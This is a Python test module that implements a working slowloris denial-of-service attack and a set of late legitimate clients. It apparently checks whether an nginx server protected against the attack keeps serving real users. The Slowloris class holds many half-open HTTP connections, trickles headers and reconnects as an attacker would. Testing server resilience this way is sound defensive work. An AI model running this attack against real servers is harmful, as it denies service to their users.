"""A slowloris, and clients that are slow to send their request, against a real nginx.

``Slowloris`` holds ``count`` sockets from one source address that start a request and
never finish its headers; ``late_clients`` are the real clients the attack must not stop
(each connects, waits, then sends a whole request). Both bind their source address, so
one process can play several attacking addresses (127.0.0.x on loopback, or addresses
added to a test fleet's bridge).
"""

from __future__ import annotations

import contextlib
import resource
import selectors
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Iterator

# How often a header line is added to each open socket.
TRICKLE_SECONDS = 2.0


@contextlib.contextmanager
def open_files(count: int) -> Iterator[None]:
    """Let this process hold ``count`` more files (root may raise the hard limit too)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = soft + count
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, max(hard, wanted)))
    if resource.getrlimit(resource.RLIMIT_NOFILE)[0] < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


class Slowloris:
    """``count`` sockets from ``source`` to ``target``:``port`` that start a request and never
    finish its headers: one more header line every 2 s on each, and a socket the server
    closed or refused is opened again, as an attacker would: at once, or with
    ``top_up_every`` seconds, at most that often (a refused attacker then retries without
    spinning the machine that plays it)."""

    def __init__(
        self, target: str, port: int, source: str, count: int, top_up_every: float = 0.0
    ) -> None:
        self.target = target
        self.top_up_every = top_up_every
        self.port = port
        self.source = source
        self.count = count
        self.opened = 0
        self.closed_by_server = 0
        self.connect_failures = 0
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    @property
    def held(self) -> int:
        """Sockets connected now (and not yet closed by the server)."""
        return sum(1 for key in self._selector.get_map().values() if key.data == "open")

    def _open(self) -> None:
        try:
            sock = socket.socket()
        except OSError:  # out of files: count it, the attack goes on with what it holds
            self.connect_failures += 1
            return
        sock.setblocking(False)
        try:
            sock.bind((self.source, 0))
            sock.connect_ex((self.target, self.port))
        except OSError:
            self.connect_failures += 1
            sock.close()
            return
        self._selector.register(sock, selectors.EVENT_WRITE, "connecting")
        self.opened += 1

    def _top_up(self) -> None:
        for _ in range(self.count - len(self._selector.get_map())):
            self._open()

    def _run(self) -> None:
        self._top_up()
        next_trickle = time.monotonic() + TRICKLE_SECONDS
        next_top_up = time.monotonic() + self.top_up_every
        while not self._stop.is_set():
            for key, _ in self._selector.select(timeout=0.2):
                sock: socket.socket = key.fileobj  # type: ignore[assignment]
                if key.data == "connecting":
                    if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        self.connect_failures += 1
                        self._drop(sock)
                        continue
                    with contextlib.suppress(OSError):
                        sock.send(b"GET / HTTP/1.1\r\nHost: x\r\n")
                    self._selector.modify(sock, selectors.EVENT_READ, "open")
                else:  # readable: the server closed it (or, never, answered)
                    with contextlib.suppress(OSError):
                        sock.recv(65536)
                    self.closed_by_server += 1
                    self._drop(sock)
            now = time.monotonic()
            if now >= next_trickle:
                next_trickle += TRICKLE_SECONDS
                for key in list(self._selector.get_map().values()):
                    if key.data == "open":
                        with contextlib.suppress(OSError):
                            key.fileobj.send(b"X-a: b\r\n")  # type: ignore[union-attr]
            if now >= next_top_up:
                next_top_up = now + self.top_up_every
                self._top_up()

    def _drop(self, sock: socket.socket) -> None:
        self._selector.unregister(sock)
        sock.close()

    def __enter__(self) -> Slowloris:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=10)
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
        self._selector.close()


def late_client(
    target: str, port: int, wait: float, timeout: float, tls: ssl.SSLContext | None = None
) -> str:
    """Connect, send nothing for ``wait`` seconds, then (after a TLS handshake that checks
    ``target`` against the certificate, with ``tls``) a whole GET /: the status line's
    code, or what went wrong ("connect: ...", "no answer", ...)."""
    try:
        sock = socket.create_connection((target, port), timeout=timeout)
    except OSError as exc:
        return f"connect: {type(exc).__name__}"
    with sock:
        time.sleep(wait)
        request = f"GET / HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n".encode()
        try:
            channel = tls.wrap_socket(sock, server_hostname=target) if tls else sock
            channel.sendall(request)
            head = channel.recv(64)
        except TimeoutError:
            return "no answer"
        except OSError as exc:  # ssl.SSLError too
            return f"send: {type(exc).__name__}"
    parts = head.split(b" ", 2)
    return parts[1].decode() if len(parts) > 1 and head.startswith(b"HTTP/") else "closed"


def late_clients(
    target: str,
    port: int,
    clients: int,
    every: float,
    wait: float = 2.0,
    timeout: float = 10.0,
    tls: ssl.SSLContext | None = None,
) -> Counter[str]:
    """``clients`` late clients, one starting every ``every`` seconds: their outcomes."""
    outcomes: Counter[str] = Counter()
    lock = threading.Lock()

    def one() -> None:
        outcome = late_client(target, port, wait, timeout, tls)
        with lock:
            outcomes[outcome] += 1

    threads = []
    for _ in range(clients):
        thread = threading.Thread(target=one, daemon=True)
        thread.start()
        threads.append(thread)
        time.sleep(every)
    for thread in threads:
        thread.join(timeout=wait + 2 * timeout + 5)
    return outcomes
